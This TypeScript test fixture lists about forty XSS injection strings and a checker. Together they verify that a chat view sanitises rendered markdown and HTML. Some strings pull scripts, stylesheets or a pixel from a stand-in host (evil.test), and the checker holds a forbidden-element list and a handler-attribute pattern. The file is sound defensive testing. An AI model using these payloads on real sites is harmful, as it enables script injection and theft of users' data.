/** If one of these got through, it would set `window.ran`, open a dialog or load something. */
export const injections = [
  "<script>window.ran = 1</script>",
  "<script src=//evil.test/x.js></script>",
  "<img src=x onerror=window.ran=1>",
  "<img src=x onerror=alert(1)//",
  "![x](https://evil.test/pixel.png)",
  '![x](x" onerror="window.ran=1)',
  "<svg onload=window.ran=1></svg>",
  "<svg><script>window.ran = 1</script></svg>",
  "<svg><animate onbegin=window.ran=1 attributeName=x dur=1s>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.ran=1&gt;'>",
  "<iframe src='javascript:parent.ran=1'></iframe>",
  "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
  "<object data='javascript:window.ran=1'></object><embed src='javascript:window.ran=1'>",
  "<details open ontoggle=window.ran=1>x</details>",
  "<input autofocus onfocus=window.ran=1>",
  "<body onload=window.ran=1>",
  "<video><source onerror=window.ran=1></video><audio src=x onerror=window.ran=1></audio>",
  "[click](javascript:window.ran=1)",
  "[click](JaVaScRiPt&colon;window.ran=1)",
  "[click](data:text/html,<script>opener.ran=1</script>)",
  "[click](vbscript:window.ran=1)",
  '[click](https://x.test "a" onmouseover="window.ran=1")',
  "<javascript:window.ran=1>",
  "[click][ref]\n\n[ref]: javascript:window.ran=1",
  "<a href='java\tscript:window.ran=1'>click</a>",
  "<form action='javascript:window.ran=1'><button>go</button></form>",
  "<style>@import '//evil.test/x.css'; * { background: url(//evil.test/y) }</style>",
  "<link rel=stylesheet href=//evil.test/x.css><base href=//evil.test/>",
  "<meta http-equiv=refresh content='0;url=javascript:window.ran=1'>",
  "```html\n</code></pre><img src=x onerror=window.ran=1>\n```",
  '```"><script>window.ran=1</script>\ncode\n```',
  "`</code><script>window.ran=1</script>`",
  "| a |\n|---|\n| <img src=x onerror=window.ran=1> |",
  "- [ ] <img src=x onerror=window.ran=1>",
  "<p id=turns name=cookie class=problem style='position:fixed;inset:0'>over everything</p>",
  "<x contenteditable onblur=window.ran=1 tabindex=1 style=display:block>x</x>",
  "<noscript><p title='</noscript><img src=x onerror=window.ran=1>'>",
  "<template><script>window.ran=1</script></template><xmp><img src=x onerror=window.ran=1></xmp>",
  "--><img src=x onerror=window.ran=1>",
  "&lt;img src=x onerror=window.ran=1&gt; &#60;script&#62;window.ran=1&#60;/script&#62;",
  "{{constructor.constructor('window.ran=1')()}}",
];

/** Runs in the page. Returns every trace that an injection could have left. */
export function remains(): string[] {
  const found: string[] = [];
  if ("ran" in window) found.push("a script ran");
  const forbidden =
    "script,iframe,object,embed,svg:not(.picture),math,style,link,meta,base,form,input,img,video,audio,template,body";
  for (const element of document.querySelectorAll(`#turns :is(${forbidden})`)) found.push(element.outerHTML);
  for (const element of document.querySelectorAll("#turns *")) {
    for (const { name, value } of element.attributes) {
      if (/^(on|style$|id$|name$|src|form)/.test(name)) found.push(`${element.tagName} ${name}=${value}`);
    }
  }
  for (const link of document.querySelectorAll<HTMLAnchorElement>("#turns a")) {
    const isSafe = !link.hasAttribute("href") || ["http:", "https:", "mailto:"].includes(link.protocol);
    if (!isSafe) found.push(`link to ${link.href}`);
    if (link.rel !== "noopener noreferrer" || link.target !== "_blank")
      found.push(`link without rel: ${link.outerHTML}`);
  }
  return found;
}
